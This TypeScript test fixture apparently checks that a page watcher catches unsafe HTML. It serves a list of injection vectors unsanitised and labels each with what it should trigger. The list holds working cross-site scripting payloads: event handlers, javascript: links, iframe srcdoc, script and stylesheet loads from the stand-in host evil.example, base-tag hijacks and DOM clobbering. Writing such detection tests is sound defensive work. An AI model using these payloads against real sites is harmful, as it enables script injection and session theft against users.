/** A page that believes everything: whoever watches it must see all of it. */
import type { Stage } from "./stage";
import { look } from "./look";
import { type Vector, canaryPath } from "./vectors";

/** The vectors as they are, in a page whose policy forbids only fonts. */
export async function believe(stage: Stage, vectors: readonly Vector[]): Promise<void> {
  const { page, watch } = await stage.kept("believes", () => stage.window(null));
  const body = vectors.map(({ text }) => `<div class="prose"><p>${text}</p></div>`).join("\n");
  await page.unroute("**/believes");
  await page.route("**/believes", (route) =>
    route.fulfill({ contentType: "text/html", headers: { "content-security-policy": "font-src 'none'" }, body: `<!doctype html><title>x</title>${body}` }),
  );
  stage.stayWithin(page, watch, (path) => path === "/believes");
  await page.goto("/believes").catch(() => {});
  await look(page, watch);
}

/** One of each thing that must be seen. */
export const certain: readonly { sees: string; text: string }[] = [
  { sees: "execution", text: "<script>canary(1)</script>" },
  { sees: "execution", text: "<img src=x: onerror=alert(1)>" },
  { sees: "execution", text: "<b onmouseover=canary(1)>x</b>" },
  { sees: "execution", text: "<a href='javascript:canary(1)'>x</a>" },
  { sees: "execution", text: "<svg onload=canary(1)></svg>" },
  { sees: "execution", text: "<iframe srcdoc='<script>parent.canary(1)</script>'></iframe>" },
  { sees: "execution", text: "<iframe srcdoc='<script>canary(1)</script>'></iframe>" },
  { sees: "execution", text: "<details open ontoggle=canary(1)>x</details>" },
  { sees: "execution", text: "<input autofocus onfocus=print()>" },
  { sees: "request", text: `<link rel=stylesheet href=${canaryPath}/1>` },
  { sees: "request", text: "<script src=https://evil.example/x.js></script>" },
  { sees: "request", text: "<style>@import 'https://evil.example/x.css'</style>" },
  { sees: "navigation", text: "<meta http-equiv=refresh content='0;url=/elsewhere'>" },
  { sees: "navigation", text: "<iframe src=https://evil.example/></iframe>" },
  { sees: "violation", text: "<style>@font-face{font-family:x;src:url(/x.woff)}p{font-family:x}</style><p>x</p>" },
  { sees: "element", text: "<base href=/x>" },
  { sees: "element", text: "<p id=app style='color:red'>x</p>" },
  { sees: "element", text: "<form id=cookie name=currentScript action=/x><input type=password></form>" },
  { sees: "element", text: "<div><template shadowrootmode=open><b onclick=x>x</b></template></div>" },
  // Not quite what a note makes of a name.
  { sees: "element", text: "</div><bdi class='mention p5' title=@ada>Ada</bdi>" },
  { sees: "element", text: "</div><p class=say><bdi class='mention p5' title=@ada><b>Ada</b></bdi></p>" },
  { sees: "element", text: "</div><p class=say><bdi class='mention p5' title=@ada lang=en>Ada</bdi></p>" },
  { sees: "error", text: "<script>throw new Error('stumbled')</script>" },
];
